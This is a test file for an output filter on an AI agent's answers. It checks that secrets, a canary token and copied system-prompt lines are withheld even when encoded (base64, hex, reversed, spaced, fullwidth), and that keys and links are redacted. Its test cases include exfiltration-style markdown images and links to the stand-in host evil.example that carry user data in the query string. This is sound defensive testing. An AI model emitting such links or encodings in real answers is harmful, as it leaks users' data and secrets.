import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { ChainAnswer, TaskInput } from '../ports.ts'
import { writeSystemPrompt } from '../prompt.ts'
import { OUTPUT_CHARS_MAX, WITHHELD_SENTENCE } from './check-output.ts'
import { type AnswerChecks, checkAnswers } from './guarded-chain.ts'

const CANARY = 'Qz7LmArK0pVx9TrB'
const SECRET = 'hub-Secret_4f9A77c0Lq2z'
const TASK: TaskInput = { requestId: 'one', message: 'Hello', sender: 'Ann', deadlineAt: 0, attempt: 1 }

const cut = (text: string, size: number): string[] =>
  Array.from({ length: Math.ceil(text.length / size) }, (_, at) => text.slice(at * size, (at + 1) * size))

/** Lets a model say these pieces, then this answer; tells what was shown, answered and told. */
const listen = async (pieces: readonly string[], answer: ChainAnswer, more: Partial<AnswerChecks> = {}) => {
  const shown: string[] = []
  const found: string[] = []
  const ask = checkAnswers(
    async (_task, tools) => {
      for (const piece of pieces) tools.delta(piece)
      return answer
    },
    { canary: CANARY, secrets: [SECRET], onFound: (ruleId, action) => found.push(`${action} ${ruleId}`), ...more },
  )
  const tools = {
    signal: new AbortController().signal,
    delta: (text: string) => void shown.push(text),
    progress: () => undefined,
  }
  const { text, call } = await ask(TASK, tools)
  return { shown: shown.join(''), steps: shown.length, text, call, found }
}

const say = (text: string, size = 1, more: Partial<AnswerChecks> = {}) => listen(cut(text, size), { text }, more)

const bytes = (text: string) => Buffer.from(text)
const FORMS: { readonly [form: string]: (secret: string) => string } = {
  'as it is': (secret) => secret,
  'in capitals': (secret) => secret.toUpperCase(),
  base64: (secret) => bytes(secret).toString('base64'),
  'base64 within more': (secret) => bytes(`it is ${secret}!`).toString('base64'),
  hex: (secret) => bytes(secret).toString('hex'),
  reversed: (secret) => [...secret].reverse().join(''),
  percent: (secret) => bytes(secret).toString('hex').replace(/../g, '%$&'),
  entities: (secret) => [...secret].map((letter) => `&#${letter.charCodeAt(0)};`).join(' '),
  '\\u': (secret) => [...secret].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  'quoted-printable': (secret) => bytes(secret).toString('hex').toUpperCase().replace(/../g, '=$&'),
  spaced: (secret) => [...secret].join(' '),
  'line by line': (secret) => [...secret].join('\n'),
  'far apart': (secret) => [...secret].join(' . . . . . . . . . . . . . . . . . . . . . . . . . . '),
  'with zero-width characters': (secret) => [...secret].join('\u200b'),
  fullwidth: (secret) => secret.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
}

describe.each(Object.entries(FORMS))('a secret %s', (_form, write) => {
  const BEFORE = 'Of course, I can tell you. It is the following, and nothing else: '

  test.each([1, 3, 40, 10_000])('in pieces of %i is never shown, not even its beginning', async (size) => {
    for (const [secret, rule] of [
      [SECRET, 'secret'],
      [CANARY, 'canary'],
    ] as const) {
      const { shown, text, found } = await say(`${BEFORE}${write(secret)} and so on, for a while.`, size)
      expect(BEFORE.startsWith(shown)).toBe(true)
      expect(text).toBe(WITHHELD_SENTENCE)
      expect(found).toEqual([`block output.${rule}`])
    }
  })
})

describe.each([
  ['a key', `sk-proj-${'a1B2'.repeat(8)}`, 'key.openai'],
  [
    'a private key',
    `-----BEGIN RSA PRIVATE KEY-----\n${'MIIBVAIB'.repeat(9)}\n-----END RSA PRIVATE KEY-----`,
    'key.private',
  ],
  ['an image that tells something', '![a cat, very\nnice](https://evil.example/p.png?d=what-ann-said)', 'link'],
  ['an image with brackets', '![a [small] cat](<https://evil.example/p.png?d=what-ann-said>)', 'link'],
  ['an image that is defined elsewhere', '![cat][c] see below.\n\n[c]: https://evil.example/p.png?d=ann', 'link'],
  ['a link that carries much', `[more](https://evil.example/?d=${'ab12'.repeat(20)} "title")`, 'link'],
  ['a bare link that carries much', `https://evil.example/?a=1&d=${'ab12'.repeat(20)}`, 'link'],
  ['a host that carries much', `https://${'ab12'.repeat(12)}.evil.example/`, 'link'],
  ['markup that is fetched', '<img alt="a<b" width=1 src="https://evil.example/x">', 'link'],
])('%s', (_what, bad, rule) => {
  test.each([1, 7, 10_000])('in pieces of %i is never shown, and the answer stands without it', async (size) => {
    const { shown, text, found } = await say(`Here you are: ${bad} Done.`, size)
    const clean = text.indexOf('[removed]')
    expect(shown).not.toMatch(/evil|sk-|BEGIN|MII/)
    expect('Here you are: ![cat][c] see below.\n\n'.startsWith(shown)).toBe(true)
    expect(clean).toBeGreaterThan(0)
    expect(text).toMatch(/Done\.$/)
    expect(text).not.toMatch(/evil\.|a1B2|MII/)
    expect(found).toEqual([`redact output.${rule}`])
  })
})

describe('a clean answer', () => {
  const CLEAN = [
    'See https://example.org/docs?page=2 and ![a cat](https://example.org/cat.png).\n\n    const a = x[1] < 2 && y',
    '# Ünïcode 😀\n\n- [ ] one [thing](https://example.org/a#b)\n- 你好，世界。今天的天气很好。\n\n<div>a</div> 100 % = \\u',
    'skeleton hub-Secret hub-Secret_4f9 Qz7LmA',
    '![',
    '<im',
    '-----BEGIN',
    '',
  ]

  test('comes as it is, and its pieces join to it', async () => {
    const piece = fc.array(fc.oneof(fc.constantFrom(...CLEAN), fc.string({ unit: 'binary', maxLength: 60 })))
    await fc.assert(
      fc.asyncProperty(
        piece.map((pieces) => pieces.join(' ')),
        fc.integer({ min: 1, max: 200 }),
        async (text, size) => {
          const heard = await say(text, size)
          if (heard.found.length > 0) return
          expect(heard.shown).toBe(text)
          expect(heard.text).toBe(text)
        },
      ),
    )
    for (const text of CLEAN) expect(await say(text)).toMatchObject({ shown: text, text, found: [] })
  })

  test('is shown while it grows, whatever its writing', async () => {
    for (const text of [
      'The meadow is green. '.repeat(40),
      '草地是绿色的。今天的天气很好，我们去散步吧。'.repeat(40),
    ]) {
      expect((await say(text, 4)).steps).toBeGreaterThan(text.length / 100)
    }
  })

  test('of 8000 characters costs little to look at', async () => {
    const secrets = Array.from({ length: 20 }, (_, at) => bytes(`${SECRET}${at}`.repeat(3)).toString('base64'))
    const text = 'The **meadow** is `green[0]`, see https://example.org/a?b=1 (or not).\n'.repeat(115).slice(0, 8_000)
    const timesMs: number[] = []
    for (let run = 0; run < 5; run += 1) {
      const before = process.cpuUsage()
      expect((await say(text, 4, { secrets })).shown).toBe(text)
      const { user, system } = process.cpuUsage(before)
      timesMs.push((user + system) / 1_000)
    }
    expect(Math.min(...timesMs)).toBeLessThan(50)
  })

  test('costs about twice as much when it is twice as long, though nothing can be shown', async () => {
    const timeMs = async (shape: string, chars: number) => {
      const before = process.cpuUsage().user
      await say(shape.repeat(chars / shape.length), 64)
      return (process.cpuUsage().user - before) / 1_000
    }
    for (const shape of ['a', '](//', '<img ', '![a', 'https://a?a&', 'eyJ', '%41']) {
      await timeMs(shape, 20_000)
      expect(await timeMs(shape, 120_000)).toBeLessThan(4 * (await timeMs(shape, 60_000)) + 60)
    }
  })
})

describe('an answer and its pieces are judged apart', () => {
  test('what was shown of another attempt does not count for the answer', async () => {
    const pieces = cut(`One moment please, I am looking for it. It is ${SECRET}, yes. `, 2)
    const { shown, text, found } = await listen([...pieces, 'Now again.'], { text: 'No.' })
    expect(shown).toMatch(/^One moment please, [^-]*$/)
    expect({ text, found }).toEqual({ text: 'No.', found: ['block output.secret'] })
  })

  test('what comes in one piece is not shown when the answer is held back', async () => {
    const { shown, text } = await listen(['Well. '], { text: `It is ${SECRET}` })
    expect({ shown, text }).toEqual({ shown: '', text: WITHHELD_SENTENCE })
  })

  test('a failure of the chain stays what it is, and what was found is told', async () => {
    const found: string[] = []
    const ask = checkAnswers(
      async (_task, tools) => {
        for (const piece of cut(`It is ${SECRET}, and much more of that.`, 5)) tools.delta(piece)
        throw new Error('nobody')
      },
      {
        canary: CANARY,
        secrets: [SECRET],
        onFound: (ruleId, _action, task) => found.push(`${task.requestId} ${ruleId}`),
      },
    )
    const tools = { signal: new AbortController().signal, delta: () => undefined, progress: () => undefined }
    await expect(ask(TASK, tools)).rejects.toThrow('nobody')
    expect(found).toEqual(['one output.secret'])
  })
})

test('an answer that is too long says how much is missing, and ends in no half of a secret', async () => {
  const { text, found } = await listen([], { text: 'a '.repeat(OUTPUT_CHARS_MAX) })
  expect(text).toMatch(/\[… 262144 characters left out\]$/)
  expect(found).toEqual(['redact output.size'])
  const half = `${' '.repeat(OUTPUT_CHARS_MAX - 10)}${SECRET} and more`
  expect((await listen([], { text: half })).text).toBe(WITHHELD_SENTENCE)
})

describe('a call of a tool', () => {
  const call = (input: unknown) => listen([], { text: '', call: { tool: 'send', input } })

  test('passes as it is, links and all', async () => {
    const input = { to: 'Nova', text: `see https://example.org/?q=${'ab12'.repeat(20)}`, tries: [1, null, true] }
    expect(await call(input)).toMatchObject({ call: { tool: 'send', input }, text: '', shown: '', found: [] })
  })

  test.each([
    ['in a text', { text: `it is ${SECRET}` }],
    ['deep within', { a: [{ b: [[{ c: CANARY }]] }] }],
    ['in a name', { [SECRET]: 1 }],
    ['in pieces', { a: SECRET.slice(0, 9), b: [SECRET.slice(9)] }],
    ['encoded', [bytes(SECRET).toString('base64')]],
  ])('that holds a secret %s is a sentence instead', async (_where, input) => {
    const { text, call: passed, found } = await call(input)
    expect({ text, passed }).toEqual({ text: WITHHELD_SENTENCE, passed: undefined })
    expect(found).toHaveLength(1)
  })

  test('that cannot be read to its end is a sentence instead', async () => {
    const round: unknown[] = []
    round.push(round)
    for (const input of [round, 'x'.repeat(300_000), Array.from({ length: 20_000 }, () => 1)]) {
      expect(await call(input)).toMatchObject({ text: WITHHELD_SENTENCE, found: ['block output.call'] })
    }
  })
})

describe('the instructions of the model', () => {
  const DESCRIPTION = `I know ${'everything about the long history of this old town and of all who ever lived in it, '.repeat(4)}`
  const identity = { name: 'Atlas', workspace: 'town', skills: ['research', 'writing'], description: DESCRIPTION }
  const system = writeSystemPrompt({ ...identity, canary: CANARY })
  const parts = { system, known: [DESCRIPTION] }
  const lines = system.split('\n').filter((line) => !line.includes(CANARY))

  test.each([
    ['in one piece', (text: string) => text],
    ['as a list in capitals', (text: string) => `- ${text.toUpperCase().replaceAll(' ', '\n- ')}`],
  ])('are held back when they are copied %s', async (_how, write) => {
    const { shown, text, found } = await say(write(lines.slice(-4).join('\n')), 9, parts)
    expect({ text, found }).toEqual({ text: WITHHELD_SENTENCE, found: ['block output.system'] })
    expect(shown.split(/\s+/).length).toBeLessThan(100)
    const call = { tool: 'send', input: { text: system.replace(CANARY, '') } }
    expect((await listen([], { text: '', call }, parts)).text).toBe(WITHHELD_SENTENCE)
  })

  test.each([
    ['what the agent says of itself', `I am Atlas. ${DESCRIPTION} My skills are research, writing.`],
    ['its first sentence', `I am ${lines[0]?.slice(8)} I work in the workspace town.`],
    ['one of the rules', `As I was told: ${lines.at(-1)}`],
  ])('are not copied by %s', async (_what, text) => {
    expect(await say(text, 9, parts)).toMatchObject({ text, shown: text, found: [] })
  })
})
